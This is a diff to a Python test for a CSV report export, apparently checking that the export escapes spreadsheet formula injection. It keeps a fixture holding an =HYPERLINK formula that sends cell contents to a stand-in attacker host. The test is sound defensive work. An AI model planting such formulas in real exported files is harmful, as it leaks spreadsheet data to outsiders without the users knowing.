@@ -6,6 +6,7 @@ import csv
 import io
 
 import pytest
+from analytics_jobs import settled
 from conftest import auth
 
 TERRITORY = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")'
@@ -49,8 +50,9 @@ def client(spb_slice, bundle_dirs, bundle_loader, tmp_path_factory):
 
 
 def test_cur_export_csv_serves_planted_formulas_as_text(client) -> None:
-    response = client.get("/v1/reports/cur-export?period=quarter&end=2021-03-31&format=csv",
-                          headers=auth(client, "analyst"))
+    response = settled(client, "get",
+                       "/v1/reports/cur-export?period=quarter&end=2021-03-31&format=csv",
+                       headers=auth(client, "analyst"))
     assert response.status_code == 200, response.text
     assert response.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.text, newline="")))
@@ -64,6 +66,6 @@ def test_cur_export_csv_serves_planted_formulas_as_text(client) -> None:
     assert "'" + CATEGORY in keys
     for row in rows[1:]:  # figures stay numbers: none is quoted
         assert row[6] == "" or float(row[6]) == float(row[6]), row
-    document = client.get("/v1/reports/cur-export?period=quarter&end=2021-03-31",
-                          headers=auth(client, "analyst")).json()
+    document = settled(client, "get", "/v1/reports/cur-export?period=quarter&end=2021-03-31",
+                       headers=auth(client, "analyst")).json()
     assert TERRITORY in {t["territory"] for t in document["by_territory"]}  # JSON is unchanged
